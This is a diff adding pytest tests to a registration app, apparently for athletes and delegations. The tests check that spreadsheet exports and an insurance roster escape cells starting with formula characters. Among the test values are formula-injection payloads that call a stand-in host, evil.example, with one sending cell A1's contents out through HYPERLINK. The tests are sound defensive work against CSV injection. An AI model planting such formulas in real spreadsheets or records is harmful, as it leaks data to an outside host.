@@ -353,3 +353,48 @@ def test_import_commit_reads_the_stage_once_and_removes_it(manager_client):
         imports.import_commit(delegation=delegation, key=key, valid_only=False)
     assert str(refused.value) == "The preview has expired; upload the file again."
     assert Athlete.objects.filter(delegation=delegation).count() == 2
+
+
+# --- exports never carry a formula -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        ),
+        ("+86 138", "'+86 138"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("＝1+1", "'＝1+1"),
+        ("ZHANG Wei", "ZHANG Wei"),
+        ("张伟", "张伟"),
+        ("", ""),
+    ],
+)
+def test_export_cells_that_would_start_a_formula_are_text(value, exported):
+    from registration.imports import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == exported
+
+
+def test_the_insurance_roster_escapes_an_imported_formula_name(manager_client):
+    from registration.enums import EntryStatus
+    from registration.organiser import insurance_rows
+    from tests.factories.registration import EntryFactory
+
+    client, delegation = manager_client
+    url = reverse("registration:athlete-import", args=[delegation.pk])
+    evil = row(1)
+    evil[0], evil[1], evil[2] = "", "", '=HYPERLINK("http://evil.example","Click")'
+    client.post(url, {"file": csv_file([evil])})
+    client.post(url, {"confirm": "1"})
+    athlete = Athlete.objects.get(delegation=delegation)
+    assert athlete.name_latin.startswith("=")  # stored as typed; escaped on the way out
+    EntryFactory(team__delegation=delegation, athlete=athlete, status=EntryStatus.SUBMITTED)
+    [exported] = insurance_rows(delegation.programme)
+    assert exported[1] == '\'=HYPERLINK("http://evil.example","Click")'
+    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in exported)
